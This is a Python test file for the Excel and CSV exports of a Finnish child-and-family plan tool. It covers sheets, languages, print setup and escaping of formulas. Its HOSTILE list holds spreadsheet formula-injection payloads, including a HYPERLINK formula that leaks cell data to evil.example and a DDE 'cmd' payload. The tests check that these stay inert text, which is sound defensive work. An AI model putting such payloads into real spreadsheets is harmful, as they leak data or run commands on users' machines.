"""The plan workbook and CSV: sheets, values, styles, print setup, formula safety."""

import csv
import io
import zipfile

import openpyxl
import pytest

from lape_plan import exports, plans, xlsx
from lape_plan.errors import NotFound, ValidationError
from lape_plan.model import SYSTEM
from tests.helpers import first_goal, first_plan_id

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+41 123 456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _open(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def _org(db, code):
    return next(o for o in plans.organisations(db) if o["code"] == code)


@pytest.mark.parametrize(
    "lang, names",
    [
        ("fi", ["Kansilehti", "Suunnitelma", "Painopisteet", "Tavoitteet", "Toimenpiteet"]),
        ("sv", ["Försättsblad", "Plan", "Fokusområden", "Mål", "Åtgärder"]),
        ("en", ["Cover", "Plan", "Focus areas", "Goals", "Measures"]),
    ],
)
def test_sheets_follow_the_language(demo_db, lang, names):
    wb = _open(exports.plan_workbook(demo_db, first_plan_id(demo_db), lang))
    assert wb.sheetnames[:5] == names
    visible = [ws.title for ws in wb.worksheets if ws.sheet_state == "visible"]
    assert visible[:2] == names[:2]
    assert all(wb[name].sheet_state == "hidden" for name in names[2:])  # the sheets for editing: never printed
    assert wb[exports.META_SHEET].sheet_state == "hidden"
    plan_sheet = wb[names[1]]
    headers = [c.value for c in plan_sheet[1]]
    assert (
        headers[:3]
        == {
            "fi": ["Painopiste", "Tavoite", "Koskee"],
            "sv": ["Fokusområde", "Mål", "Gäller"],
            "en": ["Focus area", "Goal", "Applies to"],
        }[lang]
    )


def test_plan_table_has_a_row_per_measure_in_plan_order(demo_db):
    plan_id = first_plan_id(demo_db)
    ws = _open(exports.plan_workbook(demo_db, plan_id, "sv"))["Plan"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert len(rows) == 14  # every example goal has measures
    first = rows[0]
    assert first[0] == "1. Ensamhet och mobbning"
    assert first[1] == "1.1 Varje barn har minst en god vän"
    assert first[2] == "Hela området"
    assert first[4] == "1.1.1 Kamratverksamhet i alla lågstadieskolor"
    assert first[5] == "Karleby"
    assert first[6] == "2021–2024"
    second = rows[1]
    assert second[8] == 40000 and ws.cell(3, 9).number_format == '#,##0 "€"'
    local = next(r for r in rows if r[1].startswith("2.2 "))
    assert local[2] == "Karleby"


def test_goal_without_measures_gets_its_own_row(demo_db):
    plan_id = first_plan_id(demo_db)
    area = plans.tree(demo_db, plan_id)[0]
    plans.add(demo_db, SYSTEM, "goal", area["id"], title_fi="Tavoite ilman toimenpiteitä")
    table = exports.plan_table(demo_db, plan_id, "fi")
    row = next(r for r in table.rows if r[1].endswith("Tavoite ilman toimenpiteitä"))
    assert row[4] == "" and row[8] is None


def test_municipality_sheet_holds_shared_goals_and_its_own(demo_db):
    plan_id = first_plan_id(demo_db)
    kronoby = _org(demo_db, "288")
    wb = _open(exports.plan_workbook(demo_db, plan_id, "sv", kronoby["id"]))
    assert "Kronoby" in wb.sheetnames
    goals = {r[1].value for r in wb["Kronoby"].iter_rows(min_row=2)}
    assert any("I Kronoby finns familjetjänster på svenska" in g for g in goals)
    assert not any("Karlebys förorter" in g for g in goals)
    assert any("Varje barn har minst en god vän" in g for g in goals)
    # the whole-area table is still there, and the data sheets follow the municipality
    assert any("Karlebys förorter" in (r[1].value or "") for r in wb["Plan"].iter_rows(min_row=2))
    assert not any("Karlebys förorter" in (r[5].value or "") for r in wb["Mål"].iter_rows(min_row=2))
    assert wb["Försättsblad"]["B6"].value == "Kronoby" or "Kronoby" in [c.value for c in wb["Försättsblad"]["B"]]


def test_a_municipality_sheet_numbers_goals_as_the_whole_area_does(demo_db):
    # A Kokkola goal first in focus area 1: Halsua's sheets leave it out, and the shared goals
    # after it keep the numbers of the whole area's table ("1.2", not "1.1").
    plan_id = first_plan_id(demo_db)
    kokkola, halsua = _org(demo_db, "272"), _org(demo_db, "074")
    area = plans.tree(demo_db, plan_id)[0]
    own = plans.add(
        demo_db,
        SYSTEM,
        "goal",
        area["id"],
        title_fi="Kokkolan oma tavoite",
        scope="local",
        municipality_ids=[kokkola["id"]],
        responsible_ids=[kokkola["id"]],
    )
    for _ in area["goals"]:
        plans.move(demo_db, SYSTEM, "goal", own, -1)
    wb = _open(exports.plan_workbook(demo_db, plan_id, "fi", halsua["id"]))
    whole = [r[1].value for r in wb["Suunnitelma"].iter_rows(min_row=2) if r[1].value]
    local = [r[1].value for r in wb["Halsua"].iter_rows(min_row=2) if r[1].value]
    first_shared = plans.title_in(area["goals"][0], "fi")
    assert "1.1 Kokkolan oma tavoite" in whole and "1.1 Kokkolan oma tavoite" not in local
    assert f"1.2 {first_shared}" in whole and f"1.2 {first_shared}" in local
    assert set(local) <= set(whole)
    numbers = {r[4].value: r[2].value for r in wb["Tavoitteet"].iter_rows(min_row=2)}  # the data sheet, Halsua's
    assert numbers[area["goals"][0]["title_fi"]] == "1.2" and "Kokkolan oma tavoite" not in numbers


def test_a_sheet_for_every_municipality(demo_db):
    wb = _open(exports.plan_workbook(demo_db, first_plan_id(demo_db), "fi", all_municipalities=True))
    for name in ("Halsua", "Kokkola", "Kruunupyy", "Veteli"):
        assert name in wb.sheetnames
    assert "lape_plan_272" in wb.defined_names


def test_unknown_municipality_and_language_are_refused(demo_db):
    plan_id = first_plan_id(demo_db)
    county = _org(demo_db, "HVA18")
    with pytest.raises(NotFound):
        exports.plan_workbook(demo_db, plan_id, "fi", county["id"])
    with pytest.raises(ValidationError):
        exports.plan_workbook(demo_db, plan_id, "de")


def test_council_formatting_and_print_setup(demo_db):
    wb = _open(exports.plan_workbook(demo_db, first_plan_id(demo_db), "fi"))
    for name in ("Suunnitelma", "Toimenpiteet"):
        ws = wb[name]
        head = ws["A1"] if name == "Suunnitelma" else ws["F1"]
        assert head.font.b and head.fill.fgColor.rgb.endswith("1F4E79")
        assert ws["A2"].alignment.wrap_text or name == "Toimenpiteet"
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref.startswith("A1:")
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == "$1:$1"
        assert "&P" in ws.oddFooter.right.text
    plan_ws = wb["Suunnitelma"]
    assert plan_ws["B2"].alignment.wrap_text
    assert plan_ws.column_dimensions["B"].width == 28
    assert plan_ws.auto_filter.ref == "A1:P15"  # 9 plan columns, indicators, 5 years, narrative
    assert wb.defined_names["lape_plan"].attr_text == "'Suunnitelma'!$A$1:$P$15"
    assert wb.defined_names["lape_measures"].attr_text == "'Toimenpiteet'!$A$1:$M$15"
    # id columns are marked and carry a note
    measures = wb["Toimenpiteet"]
    assert measures["A1"].value == "Tunniste" and measures["A1"].comment is not None
    assert measures["A1"].fill.fgColor.rgb.endswith("D9D9D9")


def test_cover_sheet(demo_db):
    ws = _open(exports.plan_workbook(demo_db, first_plan_id(demo_db), "fi"))["Kansilehti"]
    values = [c.value for row in ws.iter_rows() for c in row if c.value]
    assert values[0].startswith("AIKAA LAPSELLE")
    assert "2020–2024" in values and "Suomi" in values
    assert "Kokkola" in values and "Keski-Pohjanmaan hyvinvointialue (Soite)" in values
    assert "Kokkolan kaupunginvaltuusto (esimerkki)" in values
    assert any(str(v).startswith("12.3.2020 · Kvalt 12.3.2020 § 15") for v in values)
    assert any(str(v).startswith("Esimerkkisisältö") for v in values)


def _hostile_plan(db):
    plan_id = first_plan_id(db)
    goal = first_goal(db, plan_id)
    ids = []
    for text in HOSTILE:
        ids.append(
            plans.add(
                db,
                SYSTEM,
                "measure",
                goal["id"],
                title_fi=text.strip() or "x",
                title_sv=text,
                description=text + "\x07 bell",
                resources_text=text,
            )
        )
    return plan_id, ids


def test_text_that_looks_like_a_formula_stays_text(demo_db):
    plan_id, _ = _hostile_plan(demo_db)
    data = exports.plan_workbook(demo_db, plan_id, "fi")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), name
    ws = _open(data)["Toimenpiteet"]
    cells = {}
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cells[cell.value] = cell
    for text in HOSTILE:
        cell = cells[text.strip()]  # stored texts are stripped of outer whitespace
        assert cell.data_type == "s"
        assert cell.quotePrefix, repr(text)
    assert cells[HOSTILE[0] + "\x07 bell".replace("\x07", "")].data_type == "s"  # control character dropped
    plain = ws["F2"]
    assert plain.data_type == "s" and not plain.quotePrefix


@pytest.mark.parametrize("text", HOSTILE)
def test_put_keeps_every_hostile_value_as_text(text):
    wb = openpyxl.Workbook()
    exports.put(wb.active, 1, 1, text, None)
    exports.put(wb.active, 2, 1, text + "\x00\x1b", None)
    buf = io.BytesIO()
    wb.save(buf)
    ws = _open(buf.getvalue()).active
    # exact, carriage return included: lxml writes it as a character reference
    assert ws["A1"].value == text and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["A2"].value == text and ws["A2"].data_type == "s"
    assert exports.csv_safe(text) == "'" + text


def test_csv_for_excel_in_finland(demo_db):
    plan_id, _ = _hostile_plan(demo_db)
    data = exports.plan_csv(demo_db, plan_id, "fi")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["Painopiste", "Tavoite"]
    measures = [r[4] for r in rows[1:]]
    assert "1.1.1 Kaveritoiminta kaikkiin alakouluihin" in measures
    resources = [r[7] for r in rows[1:]]
    for text in HOSTILE:
        assert "'" + text.strip() in resources
    assert not any(v.startswith(xlsx.FORMULA_START) for r in rows for v in r)


def test_csv_decimal_comma_and_municipality(demo_db):
    plan_id = first_plan_id(demo_db)
    goal = first_goal(demo_db, plan_id)
    plans.add(demo_db, SYSTEM, "measure", goal["id"], title_fi="Puolikas", resources_eur="1234,5")
    fi = exports.plan_csv(demo_db, plan_id, "fi").decode("utf-8-sig")
    en = exports.plan_csv(demo_db, plan_id, "en").decode("utf-8-sig")
    assert ";1234,5" in fi and ";1234.5" in en
    kronoby = _org(demo_db, "288")
    only = exports.plan_csv(demo_db, plan_id, "sv", kronoby["id"]).decode("utf-8-sig")
    assert "Kronoby" in only and "Karlebys förorter" not in only


def test_blank_template_has_goals_but_no_measures(demo_db):
    wb = _open(exports.plan_workbook(demo_db, first_plan_id(demo_db), "fi", blank=True))
    assert wb["Tavoitteet"].max_row == 9
    assert wb["Toimenpiteet"].max_row == 1


def test_status_per_year_and_indicators_in_the_plan_table(demo_db):
    from lape_plan import follow_up

    plan_id = first_plan_id(demo_db)
    measure = first_goal(demo_db, plan_id)["measures"][0]  # scheduled 2021–2024
    follow_up.record(demo_db, SYSTEM, "measure", measure["id"], 2022, "delayed", narrative="Kaksi koulua puuttuu")
    follow_up.record(demo_db, SYSTEM, "measure", measure["id"], 2023, "on_track", progress=60)
    table = exports.plan_table(demo_db, plan_id, "sv")
    keys = [c.key for c in table.cols]
    row = table.rows[0]
    status = {y: row[keys.index(f"status_{y}")] for y in range(2020, 2025)}
    assert status == {2020: "–", 2021: "", 2022: "Försenad", 2023: "Framskrider", 2024: ""}
    assert row[keys.index("narrative_latest")] == "2022: Kaksi koulua puuttuu"
    indicator = row[keys.index("indicators")]
    assert "→" in indicator and "2024" in indicator
    assert table.headers("sv")[keys.index("status_2022")] == "Status 2022"


def test_rows_grow_for_wrapped_text(demo_db):
    plan_id = first_plan_id(demo_db)
    goal = first_goal(demo_db, plan_id)
    plans.add(demo_db, SYSTEM, "measure", goal["id"], title_fi="Pitkä " * 50, description="rivi\n" * 5)
    wb = _open(exports.plan_workbook(demo_db, plan_id, "fi"))
    measures = wb["Toimenpiteet"]
    row = next(r[0].row for r in measures.iter_rows(min_row=2) if (r[5].value or "").startswith("Pitkä"))
    assert measures.row_dimensions[row].height >= 6 * xlsx.LINE_PT  # 300 characters at about 50 a line
    assert wb["Painopisteet"].row_dimensions[2].height is None  # short rows keep the default height


def test_tables_only_workbook_for_the_council(demo_db):
    from lape_plan import roundtrip
    from lape_plan.errors import ImportRejected

    data = exports.plan_workbook(demo_db, first_plan_id(demo_db), "fi", editable=False, all_municipalities=True)
    wb = _open(data)
    visible = [ws.title for ws in wb.worksheets if ws.sheet_state == "visible"]
    assert visible[:2] == ["Kansilehti", "Suunnitelma"] and "Kokkola" in visible
    assert not {"Painopisteet", "Tavoitteet", "Toimenpiteet", "Seuranta"} & set(visible)
    assert not any(c.value == "Muokkaaminen Excelissä" for row in wb["Kansilehti"].iter_rows() for c in row)
    with pytest.raises(ImportRejected) as err:
        roundtrip.preview(demo_db, SYSTEM, data, "en")
    assert "no sheets for editing" in err.value.problems[0].text("en")


def test_only_the_councils_sheets_are_printed(demo_db):
    """Excel and LibreOffice print every visible sheet when asked for the whole workbook: the
    sheets for editing are hidden, and each printed sheet has its print area."""
    plan_id = first_plan_id(demo_db)
    council = {"Kansilehti", "Suunnitelma", "Kokkola", "Lapsivaikutukset"}
    for editable in (False, True):
        wb = _open(exports.plan_workbook(demo_db, plan_id, "fi", editable=editable, all_municipalities=True))
        printed = [ws for ws in wb.worksheets if ws.sheet_state == "visible"]
        assert {ws.title for ws in printed} >= council
        assert not {"Painopisteet", "Tavoitteet", "Toimenpiteet", "Seuranta", "Lapsibudjetti", exports.META_SHEET} & {
            ws.title for ws in printed
        }
        for ws in printed:
            assert ws.print_area, ws.title
            assert int(ws.page_setup.paperSize) == 9  # A4
        assert printed[0].page_setup.orientation == "portrait"
        assert printed[1].print_area == f"'Suunnitelma'!$A$1:${_col(printed[1])}${printed[1].max_row}"
        hidden = [ws for ws in wb.worksheets if ws.sheet_state == "hidden"]
        assert ("Toimenpiteet" in [ws.title for ws in hidden]) == editable
        assert not any(ws.print_area for ws in hidden)  # LibreOffice prints a hidden sheet that has one


def _col(ws):
    from openpyxl.utils import get_column_letter

    return get_column_letter(ws.max_column)
